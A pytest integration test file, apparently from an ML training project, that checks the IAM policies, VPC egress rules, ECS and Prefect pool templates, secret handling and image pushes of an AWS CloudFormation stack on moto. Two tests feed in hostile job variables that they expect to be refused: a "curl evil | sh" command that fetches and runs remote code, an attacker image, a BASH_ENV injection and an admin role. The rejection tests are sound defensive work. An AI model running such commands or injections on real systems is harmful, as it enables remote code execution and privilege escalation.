    assert template["job_configuration"]["auto_deregister_task_definition"] is False
    assert "auto_deregister_task_definition" not in template["variables"]["properties"]
    from hlat.infra.backends.sagemaker_request import _request_with_source  # noqa: F401  (the tags below are its own)

    source = (PROJECT_ROOT / "infra" / "backends" / "sagemaker_request.py").read_text()
    assert 'cfg.Tag(key="hlat:run-id", value=spec.run_id)' in source


def test_the_policies_allow_every_aws_call_the_control_plane_makes(default_stack: Created) -> None:
    """Each boto3 call of SageMaker, CloudWatch Logs, IAM, ECR, Service Quotas and STS written in infra/ (the flow
    runs' code, the preflight's included) is allowed to the flow-run role on some resource: a new call fails here until
    the template grants it."""
    import botocore.session
    from botocore import xform_name

    st = role_statements(default_stack, f"{default_stack.stack.name}-flow-run")
    loader = botocore.session.get_session()
    operations: dict[str, str] = {}
    for service in ("sagemaker", "logs", "iam", "ecr", "service-quotas", "sts"):
        prefix = "servicequotas" if service == "service-quotas" else service
        for op in loader.get_service_model(service).operation_names:
            operations.setdefault(xform_name(op), f"{prefix}:{op}")
    called = {
        m
        for path in sorted((PROJECT_ROOT / "infra").rglob("*.py"))
        for m in re.findall(r"\.([a-z]+(?:_[a-z]+)+)\(", path.read_text())
    }
    # The preflight reads the caller's own policies; these calls are made only for an IAM user caller, never for
    # the flow-run role.
    users_only = {
        f"iam:{op}"
        for op in (
            *("GetUserPolicy", "ListUserPolicies", "ListAttachedUserPolicies", "ListGroupsForUser"),
            *("GetGroupPolicy", "ListGroupPolicies", "ListAttachedGroupPolicies"),
        )
    }
    # sts:GetCallerIdentity needs no permission (IAM user guide, "GetCallerIdentity").
    free = {"sts:GetCallerIdentity"}
    actions = sorted(operations[m] for m in called & set(operations) if operations[m] not in users_only | free)
    assert "sagemaker:DescribeTrainingJob" in actions and "logs:FilterLogEvents" in actions
    assert {"sts:AssumeRole", "sagemaker:ListTrainingJobs"} <= set(actions)  # the preflight's probe and usage
    denied = [a for a in actions if not allows(st, a, "*") and not _allowed_somewhere(st, a)]
    assert not denied, f"deployments/account.yaml's FlowRunPolicy lacks {denied}"


def _allowed_somewhere(statements: list[dict[str, Any]], action: str) -> bool:
    return any(
        s["Effect"] == "Allow" and any(fnmatch.fnmatchcase(action.lower(), a.lower()) for a in _listed(s["Action"]))
        for s in statements
    )


def test_the_worker_and_task_execution_roles_reach_the_stacks_cluster_image_and_logs(default_stack: Created) -> None:
    out, name = default_stack.stack.outputs, default_stack.stack.name
    cluster = default_stack.client("ecs").describe_clusters(clusters=[out["ClusterName"]])["clusters"][0]["clusterArn"]
    worker = role_statements(default_stack, f"{name}-worker")
    task = f"arn:aws:ecs:{REGION}:{ACCOUNT}:task-definition/prefect__hlat:1"
    assert allows(worker, "ecs:RunTask", task, {"ecs:cluster": cluster})
    assert not allows(worker, "ecs:RunTask", task, {"ecs:cluster": cluster.replace(name, "other")})
    assert allows(worker, "ecs:RegisterTaskDefinition", "*") and allows(worker, "ec2:DescribeSubnets", "*")
    to_ecs = {"iam:PassedToService": "ecs-tasks.amazonaws.com"}
    for role in (out["FlowRunRoleArn"], out["TaskExecutionRoleArn"]):
        assert allows(worker, "iam:PassRole", role, to_ecs), role
    assert not allows(worker, "iam:PassRole", out["SageMakerExecutionRoleArn"], to_ecs)
    execution = role_statements(default_stack, f"{name}-task-execution")
    repo = f"arn:aws:ecr:{REGION}:{ACCOUNT}:repository/{name}-worker"
    assert allows(execution, "ecr:BatchGetImage", repo)
    assert not allows(execution, "ecr:BatchGetImage", f"arn:aws:ecr:{REGION}:{ACCOUNT}:repository/other")
    stream = f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:{out['FlowRunLogGroup']}:log-stream:hlat/prefect/abc"
    assert allows(execution, "logs:PutLogEvents", stream)


def test_jobs_in_a_vpc_get_network_interfaces_an_efa_group_kms_and_the_corpus_bucket(vpc_stack: Created) -> None:
    out, name = vpc_stack.stack.outputs, vpc_stack.stack.name
    st = role_statements(vpc_stack, f"{name}-sagemaker-execution")
    for action in ("ec2:CreateNetworkInterface", "ec2:CreateNetworkInterfacePermission", "ec2:DescribeDhcpOptions"):
        assert allows(st, action, "*"), action
    key = f"arn:aws:kms:{REGION}:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab"
    assert allows(st, "kms:GenerateDataKey", key) and not allows(st, "kms:GenerateDataKey", f"{key}0")
    assert allows(st, "s3:GetObject", "arn:aws:s3:::my-corpora/web/part-0.jsonl")
    assert not allows(st, "s3:PutObject", "arn:aws:s3:::my-corpora/web/part-0.jsonl")
    assert allows(role_statements(vpc_stack, f"{name}-flow-run"), "s3:GetObject", "arn:aws:s3:::my-corpora/x")
    # EFA: all traffic from the group to itself.
    (group,) = vpc_stack.client("ec2").describe_security_groups(GroupIds=[out["JobSecurityGroupId"]])["SecurityGroups"]
    assert group["VpcId"] == out["VpcId"]
    (ingress,) = group["IpPermissions"]
    assert ingress["IpProtocol"] == "-1" and ingress["UserIdGroupPairs"][0]["GroupId"] == group["GroupId"]
    assert out["JobSubnets"] == out["SubnetIds"] and len(out["SubnetIds"].split(",")) == 2
    enc = vpc_stack.client("s3").get_bucket_encryption(Bucket=vpc_stack.bucket)["ServerSideEncryptionConfiguration"]
    assert enc["Rules"][0]["ApplyServerSideEncryptionByDefault"] == {"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": key}


def test_jobs_kept_to_aws_endpoints_reach_their_nodes_s3_and_the_endpoints_only(
    s3_server: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 51: JobEgress=aws-endpoints replaces the job group's allow-all egress with the job's own nodes, S3's
    prefix list (through the gateway endpoint on the subnets' route tables) and HTTPS to the interface endpoints of
    ECR, CloudWatch Logs and metrics and STS; the pool tells the flow runs, whose SageMaker jobs then install
    nothing at start and need an image of the user's own."""
    import boto3

    from hlat.infra.backends.protocol import JobSpec
    from hlat.infra.backends.sagemaker_request import check_spec

    ec2 = boto3.client(
        "ec2", endpoint_url=s3_server, region_name=REGION, aws_access_key_id="t", aws_secret_access_key="t"
    )
    vpc = ec2.create_vpc(CidrBlock="10.9.0.0/16")["Vpc"]["VpcId"]
    subnets = [ec2.create_subnet(VpcId=vpc, CidrBlock=f"10.9.{i}.0/24")["Subnet"]["SubnetId"] for i in (1, 2)]
    table = ec2.create_route_table(VpcId=vpc)["RouteTable"]["RouteTableId"]
    created = create_stack(
        s3_server, VpcId=vpc, SubnetIds=",".join(subnets), JobsInVpc="true", JobEgress="aws-endpoints",
        RouteTableIds=table, S3PrefixListId="pl-63a5400a",
    )  # fmt: skip
    out = created.stack.outputs
    assert out["JobEgress"] == "aws-endpoints"
    # moto's CloudFormation keeps EC2's allow-all egress and makes no AWS::EC2::SecurityGroupEgress: the rules are
    # read from the template (cfn-lint checks them against CloudFormation's schema).
    resources = template()["Resources"]
    inline = resources["JobSecurityGroup"]["Properties"]["SecurityGroupEgress"]["Fn::If"]
    assert inline[0] == "EndpointsOnly" and [r["CidrIp"] for r in inline[1]] == ["127.0.0.1/32"]
    rules = {
        name: r["Properties"]
        for name, r in resources.items()
        if r["Type"] == "AWS::EC2::SecurityGroupEgress" and r.get("Condition") == "EndpointsOnly"
    }
    destinations = sorted(
        str(rule.get("DestinationPrefixListId") or rule.get("DestinationSecurityGroupId")) for rule in rules.values()
    )
    assert destinations == sorted(
        str(d)
        for d in (
            {"Fn::GetAtt": ["JobSecurityGroup", "GroupId"]},
            {"Fn::GetAtt": ["EndpointSecurityGroup", "GroupId"]},
            {"Ref": "S3PrefixListId"},
        )
    )
    assert all(r["FromPort"] == 443 for r in rules.values() if r["IpProtocol"] == "tcp")
    # (Nor does it make AWS::EC2::VPCEndpoint: the endpoints, too, are read from the template.)
    endpoints = [r for r in resources.values() if r["Type"] == "AWS::EC2::VPCEndpoint"]
    assert all(r.get("Condition") == "EndpointsOnly" for r in endpoints)
    services = {r["Properties"]["ServiceName"]["Fn::Sub"].rsplit("}.", 1)[1] for r in endpoints}
    gateway = [r["Properties"] for r in endpoints if r["Properties"]["VpcEndpointType"] == "Gateway"]
    assert [g["RouteTableIds"] for g in gateway] == [{"Ref": "RouteTableIds"}]
    assert services == {"s3", "ecr.api", "ecr.dkr", "logs", "monitoring", "sts"}, services
    pool = ecs_job_template(created.stack, "x:1")
    assert pool["job_configuration"]["env"]["HLAT_JOB_EGRESS"] == "aws-endpoints"
    # A flow run there: a job on AWS's own image is refused (it could not install its requirements), naming the
    # field; a job on the user's image installs nothing.
    monkeypatch.setenv("HLAT_JOB_EGRESS", "aws-endpoints")
    spec = JobSpec(
        name="r-train-1", run_id="r", attempt=1, run_uri="s3://b/hlat/r", config_uri="s3://b/hlat/r/c.json",
        instance_type="ml.trn1.32xlarge", instance_count=1, processes_per_node=32, max_runtime_s=3600,
    )  # fmt: skip
    job = JobConfig(
        backend="sagemaker", instance_type="ml.trn1.32xlarge", role_arn=f"arn:aws:iam::{ACCOUNT}:role/x", region=REGION
    )
    with pytest.raises(ValueError, match=r"job.image_uri: the account's jobs reach AWS's endpoints only"):
        check_spec(spec, job, None)
    own = dataclasses.replace(spec, image_uri=f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/hlat-train@sha256:{'c' * 64}")
    check_spec(own, job, None)
    from hlat.infra.backends.sagemaker import SageMakerBackend

    assert SageMakerBackend(job).requirements(own) is None


# -- the work pool and the worker image from the stack -------------------------------------------------------------
def test_the_ecs_pool_template_is_made_from_the_stacks_outputs(vpc_stack: Created) -> None:
    out = vpc_stack.stack.outputs
    image = f"{out['WorkerRepositoryUri']}:0123456789ab"
    template = ecs_job_template(vpc_stack.stack, image)
    job, variables = template["job_configuration"], template["variables"]["properties"]
    assert job["task_definition"]["containerDefinitions"][0]["image"] == image and job["cluster"] == out["ClusterName"]
    assert job["task_run_request"]["overrides"]["taskRoleArn"] == out["FlowRunRoleArn"]
    assert job["execution_role_arn"] == out["TaskExecutionRoleArn"] and job["vpc_id"] == out["VpcId"]
    assert job["network_configuration"] == {
        "subnets": out["SubnetIds"].split(","),
        "assignPublicIp": "DISABLED",
        "securityGroups": [],
    }
    assert job["configure_cloudwatch_logs"] is True
    assert job["cloudwatch_logs_options"]["awslogs-group"] == out["FlowRunLogGroup"]
    assert (variables["cpu"]["default"], variables["memory"]["default"]) == (4096, 16384)


def test_a_run_cannot_change_what_the_ecs_pool_runs_as_whom_or_where(vpc_stack: Created, prefect_server: None) -> None:
    """Issue 51: the image, command, roles, environment and network are the template's own, not variables: job
    variables naming them are refused by the schema Prefect's server checks a run's job variables against, and even
    given to the worker's configuration they change nothing."""
    from prefect.utilities.schema_tools import ValidationError, validate
    from prefect_aws.workers.ecs_worker import ECSJobConfiguration

    def check(job_variables: dict[str, Any]) -> None:  # as Prefect's server checks a flow run's job variables
        validate(job_variables, template["variables"], raise_on_error=True, preprocess=True, ignore_required=True)

    stack = dataclasses.replace(
        vpc_stack.stack, outputs={**vpc_stack.stack.outputs, "MaxRunBudgetUsd": "50000", "MaxJobInstances": "64"}
    )
    image = f"{stack.outputs['WorkerRepositoryUri']}:0123456789ab"
    template = ecs_job_template(stack, image)
    assert sorted(template["variables"]["properties"]) == [
        "cpu", "labels", "match_latest_revision_in_family", "memory", "name"
    ]  # fmt: skip
    evil = {
        "image": "attacker/image:latest",
        "command": "sh -c 'curl evil | sh'",
        "env": {"BASH_ENV": "/tmp/x", "HLAT_MAX_BUDGET_USD": "1e12"},
        "task_role_arn": "arn:aws:iam::123456789012:role/admin",
        "task_definition_arn": "arn:aws:ecs:us-east-1:123456789012:task-definition/other:1",
        "network_configuration": {"assignPublicIp": "ENABLED"},
    }
    for key, value in evil.items():
        with pytest.raises(ValidationError, match=f"Additional properties are not allowed \\('{key}' was unexpected"):
            check({key: value})
    check({"cpu": 8192, "memory": 32768})
    # The worker trusts what the server validated (prefect's from_template_and_values merges a given env): the rest
    # of the template stays whatever values it is handed.
    given = {k: v for k, v in evil.items() if k != "env"}
    config = asyncio.run(ECSJobConfiguration.from_template_and_values(template, given))
    assert config.task_definition["containerDefinitions"][0]["image"] == image
    assert config.command == "prefect flow-run execute"
    assert config.task_run_request["overrides"]["taskRoleArn"] == stack.outputs["FlowRunRoleArn"]
    assert "taskDefinition" not in config.task_run_request
    assert config.env == {
        "AWS_DEFAULT_REGION": stack.region, "HLAT_MAX_BUDGET_USD": "50000", "HLAT_MAX_INSTANCES": "64",
        "HLAT_RUN_ROLE_BOUNDARY": stack.outputs["RunRoleBoundaryArn"],
        "HLAT_RUN_ROLE_PATH": f"/hlat-runs/{stack.name}/",
    }  # fmt: skip
    assert config.network_configuration["assignPublicIp"] == "DISABLED"


SEEDED = {
    "prefect-api": "seeded-prefect-auth-8d1f0c",
    "env/HF_TOKEN": "hf_seededtoken1234567890",
    "env/WANDB_API_KEY": "seeded-wandb-key-5b2e9a",
    "env/MLFLOW_TRACKING_PASSWORD": "seeded-mlflow-pw-77c1",
}


def with_secrets(created: Created, prefect_auth: str = "auth-string") -> Stack:
    """The stack with its secrets: moto's CloudFormation has no AWS::SecretsManager::Secret, so the template's
    `<stack>/prefect-api` is made through Secrets Manager's API under the template's name, with its outputs, and a
    user's `<stack>/env/<NAME>` secrets beside it (and one name that only shares the prefix)."""
    sm, name = created.client("secretsmanager"), created.stack.name
    declared = template()["Resources"]["PrefectApiSecret"]["Properties"]["Name"]
    assert declared == {"Fn::Sub": "${AWS::StackName}/prefect-api"}
    arns = {key: sm.create_secret(Name=f"{name}/{key}", SecretString=value)["ARN"] for key, value in SEEDED.items()}
    sm.create_secret(Name=f"{name}/envelope", SecretString="not a variable of ours")
    outputs = {**created.stack.outputs, "PrefectApiSecretArn": arns["prefect-api"], "PrefectAuth": prefect_auth}
    return dataclasses.replace(created.stack, outputs=outputs)


def test_flow_runs_get_their_secrets_from_secrets_manager_and_the_task_holds_none(
    vpc_stack: Created, s3_server: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 51: the Prefect API's credential and the flow runs' HF, W&B and MLflow secrets reach an ECS flow run
    as secret ARNs that ECS resolves at start: the task definition and run request prefect-aws's worker sends (built
    here by its own code, with the worker holding the Prefect credential as a user's worker does) name the ARNs and
    hold no value; the stack's task execution role may read them."""
    from prefect.client.schemas.objects import FlowRun
    from prefect.settings import PREFECT_API_AUTH_STRING, PREFECT_API_URL, temporary_settings
    from prefect_aws.workers.ecs_worker import ECSJobConfiguration, ECSWorker

    set_aws_env(monkeypatch, s3_server, "testing", "testing")  # the worker reads the subnets from moto's EC2
    stack = with_secrets(vpc_stack)
    secrets = flow_run_secrets(stack, session=vpc_stack.session)
    assert [s["name"] for s in secrets] == ["HF_TOKEN", "MLFLOW_TRACKING_PASSWORD", "WANDB_API_KEY"]
    template = ecs_job_template(stack, f"{stack.outputs['WorkerRepositoryUri']}:0123456789ab", secrets)
    assert template["job_configuration"]["prefect_api_auth_string_secret_arn"] == stack.outputs["PrefectApiSecretArn"]
    assert "prefect_api_auth_string_secret_arn" not in template["variables"]["properties"]  # fixed, not a variable
    settings = {PREFECT_API_URL: "https://prefect.example.com/api", PREFECT_API_AUTH_STRING: SEEDED["prefect-api"]}
    with temporary_settings(settings):
        config = asyncio.run(ECSJobConfiguration.from_template_and_values(template, {}))
        flow_run = FlowRun(flow_id=uuid.uuid4(), name="seeded")
        config.prepare_for_flow_run(flow_run)
        worker = ECSWorker(work_pool_name="hlat")
        task_definition = worker._prepare_task_definition(config, stack.region, flow_run)
        request = worker._prepare_task_run_request(config, task_definition, "arn:task-definition/x:1", True)
    sent = json.dumps([task_definition, request, config.env])
    for key, value in SEEDED.items():
        assert value not in sent, f"{key}'s value is in what the worker sends to ECS"
    (container,) = task_definition["containerDefinitions"]
    by_name = {s["name"]: s["valueFrom"] for s in container["secrets"]}
    assert by_name["PREFECT_API_AUTH_STRING"] == stack.outputs["PrefectApiSecretArn"]
    assert {k: by_name[k] for k in ("HF_TOKEN", "WANDB_API_KEY")} == {s["name"]: s["valueFrom"] for s in secrets[::2]}
    statements = role_statements(vpc_stack, f"{stack.name}-task-execution")
    for arn in by_name.values():
        assert allows(statements, "secretsmanager:GetSecretValue", arn), arn
    other = by_name["HF_TOKEN"].replace(f"secret:{stack.name}/", "secret:other-stack/")
    assert not allows(statements, "secretsmanager:GetSecretValue", other)
    # Prefect Cloud: the key's secret, as prefect-aws's API-key secret.
    cloud = ecs_job_template(with_secrets_outputs(stack, "api-key"), "x:1")
    assert cloud["job_configuration"]["prefect_api_key_secret_arn"] == stack.outputs["PrefectApiSecretArn"]
    assert "prefect_api_auth_string_secret_arn" not in cloud["job_configuration"]


def with_secrets_outputs(stack: Stack, prefect_auth: str) -> Stack:
    return dataclasses.replace(stack, outputs={**stack.outputs, "PrefectAuth": prefect_auth})


def test_a_missing_stack_or_an_unpushed_image_is_one_line_naming_the_fix(default_stack: Created) -> None:
    with pytest.raises(DeployError) as err:
        read_stack("no-such-stack", session=default_stack.session)
    assert "no such stack in us-east-1: create it with `aws cloudformation deploy --stack-name no-such-stack" in str(
        err.value
    )
    image = f"{default_stack.stack.outputs['WorkerRepositoryUri']}:feedface0000"
    with pytest.raises(
        DeployError, match=r"is not in ECR: build and push it first with `deployments/push-worker-image"
    ):
        check_pushed(default_stack.stack, image, session=default_stack.session)
    _push(default_stack, "feedface0000")
    check_pushed(default_stack.stack, image, session=default_stack.session)


def _push(created: Created, tag: str) -> str:
    """An image in the stack's repository under `tag`, as `docker push` leaves it (one image per tag); its digest."""
    import hashlib

    manifest = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
        "config": {
            "mediaType": "application/vnd.docker.container.image.v1+json",
            "size": 1,
            "digest": "sha256:" + hashlib.sha256(tag.encode()).hexdigest(),
        },
        "layers": [],
    }
    repository = created.stack.outputs["WorkerRepositoryUri"].split("/", 1)[1]
    ecr = created.client("ecr")
    ecr.put_image(repositoryName=repository, imageManifest=json.dumps(manifest), imageTag=tag)
    return str(
        ecr.describe_images(repositoryName=repository, imageIds=[{"imageTag": tag}])["imageDetails"][0]["imageDigest"]
    )


def test_the_push_script_builds_this_checkout_for_fargate_and_never_shows_the_password(
    default_stack: Created, s3_server: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    image = push_worker_image(default_stack.stack, tag="abc123", dry_run=True)
    lines = capsys.readouterr().out.splitlines()
    assert image == f"{default_stack.stack.outputs['WorkerRepositoryUri']}:abc123"
    assert lines[0] == "docker pull --platform linux/amd64 python:3.11-slim"
    assert lines[1] == (
        "docker build --platform linux/amd64 -f deployments/worker.Dockerfile --build-arg PYTHON_BASE=<the digest "
        "`docker pull --platform linux/amd64 python:3.11-slim` gives> --build-arg HLAT_CODE_VERSION=abc123 "
        f"-t {image} ."
    )
    assert lines[2].startswith("docker login --username AWS --password-stdin") and lines[3] == f"docker push {image}"
    # A base pinned by the user is built on as given, without a pull.
    monkeypatch.setenv("HLAT_WORKER_BASE", "python@sha256:" + "a" * 64)
    push_worker_image(default_stack.stack, tag="abc123", dry_run=True)
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("docker build") and f"PYTHON_BASE=python@sha256:{'a' * 64} " in lines[0]
    monkeypatch.delenv("HLAT_WORKER_BASE")
    # The script itself, as a user runs it, against the stack on moto (AWS_ENDPOINT_URL reaches it).
    set_aws_env(monkeypatch, s3_server, "testing", "testing")
    done = subprocess.run(
        [str(PROJECT_ROOT / "deployments" / "push-worker-image.sh"), "--stack", default_stack.stack.name, "--dry-run"],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHON": sys.executable},
    )
    assert done.returncode == 0, done.stderr
    assert f"{default_stack.stack.outputs['WorkerRepositoryUri']}:" in done.stdout
    missing = subprocess.run(
        [str(PROJECT_ROOT / "deployments" / "push-worker-image.sh"), "--stack", "nope", "--dry-run"],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHON": sys.executable},
    )
    assert missing.returncode == 1 and "Traceback" not in missing.stderr
    assert missing.stderr.strip().splitlines() == [
        f"push-worker-image.sh: error: --stack nope: no such stack in {REGION}: create it with "
        "`aws cloudformation deploy --stack-name nope --template-file deployments/account.yaml "
        "--capabilities CAPABILITY_NAMED_IAM --parameter-overrides BucketName=<a new bucket name>`"
    ]


def test_the_push_builds_on_the_base_it_pulled_by_digest_and_logs_in_through_stdin(
    default_stack: Created, tmp_path: Path
) -> None:
    """The push with a recording `docker`: the base is pulled, resolved to its digest and built on by digest; the
    registry password goes through stdin only."""
    calls = tmp_path / "calls.txt"
    digest = "python@sha256:" + "b" * 64
    docker = tmp_path / "docker"
    docker.write_text(
        "#!/bin/bash\n"
        f'echo "$*" >> {calls}\n'
        f'if [ "$1 $2" = "image inspect" ]; then echo \'["{digest}"]\'; fi\n'
        f'if [ "$1" = login ]; then echo "stdin:$(cat)" >> {calls}; fi\n'
    )
    docker.chmod(0o755)
    image = push_worker_image(default_stack.stack, tag="abc124", docker=str(docker), session=default_stack.session)
    lines = calls.read_text().splitlines()
    assert lines[0] == "pull --platform linux/amd64 python:3.11-slim"
    assert lines[1].startswith("image inspect")
    assert lines[2].startswith(
        f"build --platform linux/amd64 -f deployments/worker.Dockerfile --build-arg PYTHON_BASE={digest} "
    )
    login = next(i for i, line in enumerate(lines) if line.startswith("login"))
    assert "--password-stdin" in lines[login] and lines[login + 1].startswith("stdin:")
    password = lines[login + 1].removeprefix("stdin:")
    assert password and all(password not in line for line in lines if not line.startswith("stdin:"))
    assert lines[-1] == f"push {image}"


def test_the_worker_image_holds_the_code_where_the_aws_deployments_look(tmp_path: Path) -> None:
    """The AWS deployments' pull step is a working directory in the image: no git remote for Fargate to reach."""
    dockerfile = (PROJECT_ROOT / "deployments" / "worker.Dockerfile").read_text()
    assert f"WORKDIR {IMAGE_CODE_DIR}\n" in dockerfile and "-e ." in dockerfile
    # Issue 51: the base by digest (a build argument the push script sets), the flow runs as a user, not root.
    assert "FROM ${PYTHON_BASE}\n" in dockerfile and dockerfile.rstrip().splitlines()[-2] == "USER 10001:10001"
    import tomllib

    folders = set(
        tomllib.loads((PROJECT_ROOT / "pyproject.toml").read_text())["tool"]["setuptools"]["package-dir"].values()
    )
    for folder in folders:
        assert f"COPY {folder}/ {folder}/" in dockerfile, folder
    deployments, default_pull = load_deployments()
    aws = [d for d in deployments if d["parameters"].get("storage", "").startswith("{{")]
    assert len(aws) == 10 and {code_source(d, default_pull) for d in aws} == {"image"}


def test_aws_deployments_are_not_registered_on_a_prefect_api_anyone_may_use(
    default_stack: Created,
    s3_server: str,
    prefect_server: None,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    """Issue 51: the session's Prefect server answers without credentials; `hlat deploy --stack` (an ECS pool, whose
    flow runs reach the API over the network) refuses it before anything is registered, naming the fix, unless
    told (--allow-open-server)."""
    from prefect.client.orchestration import get_client
    from prefect.exceptions import ObjectNotFound
    from prefect.settings import PREFECT_API_URL

    import hlat.deploy
    from tests.integration.test_deploy import prefect_file_on_pool

    set_aws_env(monkeypatch, s3_server, "testing", "testing")
    monkeypatch.setenv("PREFECT_API_URL", str(PREFECT_API_URL.value()))
    monkeypatch.setenv("HLAT_WORKER_TAG", "0badc0ffee00")
    _push(default_stack, "0badc0ffee00")
    pool = f"hlat-{uuid.uuid4().hex[:8]}"
    prefect_file = prefect_file_on_pool(tmp_path, pool)
    calls: list[list[str]] = []
    monkeypatch.setattr(hlat.deploy, "run_prefect_deploy", lambda cmd, env: calls.append(cmd) or 0)
    assert hlat.deploy.api_guarded(str(PREFECT_API_URL.value())) is False
    with pytest.raises(DeployError, match=r"answers without credentials, and 1 AWS deployment\(s\) \(pretrain-7b\)"):
        hlat.deploy.deploy(["pretrain-7b"], prefect_file=prefect_file, stack=default_stack.stack.name)
    assert not calls
    # Nor does `hlat worker --stack` serve the stack's ECS pool from it.
    with pytest.raises(DeployError, match=f"answers without credentials, and the ECS pool '{pool}'"):
        hlat.deploy.worker(pool, stack=default_stack.stack.name)
    with get_client(sync_client=True) as client, pytest.raises(ObjectNotFound):
        client.read_work_pool(pool)  # nothing was created
    # The tiny deployments run on this machine's process pool: a loopback server serves them.
    assert hlat.deploy.deploy(["train-tiny"], prefect_file=prefect_file, pool_type="process") == 0
    told = prefect_file_on_pool(tmp_path / "told", f"{pool}-ecs")
    assert (
        hlat.deploy.deploy(["pretrain-7b"], prefect_file=told, stack=default_stack.stack.name, allow_open_server=True)
        == 0
    )
    assert len(calls) == 2


def test_deploy_with_the_stack_sets_the_pool_the_secret_and_the_code_source(
    default_stack: Created,
    s3_server: str,
    guarded_prefect_server: str,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """`hlat deploy --type ecs --stack S`: nothing left to hand-edit, and the AWS deployments' pull step is the
    image's working directory (the `prefect deploy` it runs is recorded: tests/e2e registers for real)."""
    import httpx
    from prefect.blocks.system import Secret
    from prefect.client.orchestration import get_client
    from prefect.settings import PREFECT_API_URL
    from prefect.utilities.templating import apply_values

    import hlat.deploy
    from tests.integration.test_deploy import prefect_file_on_pool

    set_aws_env(monkeypatch, s3_server, "testing", "testing")
    monkeypatch.setenv("PREFECT_API_URL", str(PREFECT_API_URL.value()))
    # The server refuses a client without its credentials (issue 51); hlat's, from the settings, get in.
    refused = httpx.post(f"{PREFECT_API_URL.value()}/work_pools/filter", json={}, timeout=30)
    assert refused.status_code == 401 and hlat.deploy.api_guarded(str(PREFECT_API_URL.value()))
    for var in ("HLAT_S3_ROOT", "HLAT_CODE_DIR", "HLAT_WORKER_TAG"):
        monkeypatch.delenv(var, raising=False)
    pool = f"hlat-{uuid.uuid4().hex[:8]}"
    prefect_file = prefect_file_on_pool(tmp_path, pool)
    calls: list[tuple[list[str], dict[str, str]]] = []
    monkeypatch.setattr(hlat.deploy, "run_prefect_deploy", lambda cmd, env: calls.append((cmd, env)) or 0)
    monkeypatch.setenv("HLAT_WORKER_TAG", "0123456789ab")
    with pytest.raises(DeployError, match="0123456789ab is not in ECR: build and push it first"):
        hlat.deploy.deploy(["pretrain-7b"], prefect_file=prefect_file, stack=default_stack.stack.name)
    assert not calls
    first = _push(default_stack, "0123456789ab")
    assert hlat.deploy.deploy([], prefect_file=prefect_file, stack=default_stack.stack.name) == 0
    out = capsys.readouterr().out
    assert f"work pool {pool!r}: created (type ecs), base job template from the stack" in out
    assert "skipping 7 deployment(s) that run from this checkout" in out
    ((_, env),) = calls
    assert env["HLAT_S3_ROOT"] == default_stack.stack.outputs["RunsRoot"] and env["HLAT_CODE_DIR"] == IMAGE_CODE_DIR
    for var in ("HLAT_S3_ROOT", "HLAT_CODE_DIR"):  # as the `prefect deploy` process has them
        monkeypatch.setenv(var, env[var])
    deployments, _ = load_deployments(prefect_file)
    seven = apply_values(next(d for d in deployments if d["name"] == "pretrain-7b"), {})
    assert seven["pull"] == [{"prefect.deployments.steps.set_working_directory": {"directory": IMAGE_CODE_DIR}}]
    assert seven["parameters"]["storage"] == default_stack.stack.outputs["RunsRoot"]
    with get_client(sync_client=True) as client:
        template = client.read_work_pool(pool).base_job_template
    image = template["job_configuration"]["task_definition"]["containerDefinitions"][0]["image"]
    assert image == f"{default_stack.stack.outputs['WorkerRepositoryUri']}@{first}"  # pulled by digest
    role = template["job_configuration"]["task_run_request"]["overrides"]["taskRoleArn"]
    assert role == default_stack.stack.outputs["FlowRunRoleArn"]
    # A run of a deployment on the pool that names the image, the command or the role is refused by the server
    # before the run exists (issue 51); its size is a run's to choose.
    from prefect.exceptions import PrefectHTTPStatusError

    with get_client(sync_client=True) as client:
        flow_id = client.create_flow_from_name(f"guard-{pool}")
        deployment = client.create_deployment(flow_id, "guard", work_pool_name=pool, entrypoint="flows/x.py:f")
        evil = ({"image": "attacker/x"}, {"command": "sh"}, {"task_role_arn": "arn:aws:iam::1:role/a"}, {"env": {}})
        for job_variables in evil:
            with pytest.raises(PrefectHTTPStatusError, match="Additional properties are not allowed"):
                client.create_flow_run_from_deployment(deployment, job_variables=job_variables)
        assert client.read_flow_runs() == [] or all(r.deployment_id != deployment for r in client.read_flow_runs())
        run = client.create_flow_run_from_deployment(deployment, job_variables={"cpu": 8192, "memory": 32768})
        assert run.job_variables == {"cpu": 8192, "memory": 32768}
    assert Secret.load("hlat-sagemaker-role").get() == default_stack.stack.outputs["SageMakerExecutionRoleArn"]
    # Again: the existing pool's template is set again (a new commit's image), the secret is unchanged.
    monkeypatch.setenv("HLAT_WORKER_TAG", "fedcba987654")
    second = _push(default_stack, "fedcba987654")
    assert hlat.deploy.deploy(["pretrain-7b"], prefect_file=prefect_file, stack=default_stack.stack.name) == 0
    out = capsys.readouterr().out
    assert f"work pool {pool!r}: exists (type ecs), base job template set from the stack" in out
    assert "Secret block 'hlat-sagemaker-role': unchanged" in out
    with get_client(sync_client=True) as client:
        template = client.read_work_pool(pool).base_job_template
    image = template["job_configuration"]["task_definition"]["containerDefinitions"][0]["image"]
    assert image.endswith(f"@{second}")  # (moto gives every manifest one digest)
    # The repository's tags are immutable: a tag cannot be moved to another image.
    repository = default_stack.stack.outputs["WorkerRepositoryUri"].split("/", 1)[1]
    (repo,) = default_stack.client("ecr").describe_repositories(repositoryNames=[repository])["repositories"]
    assert repo["imageTagMutability"] == "IMMUTABLE"
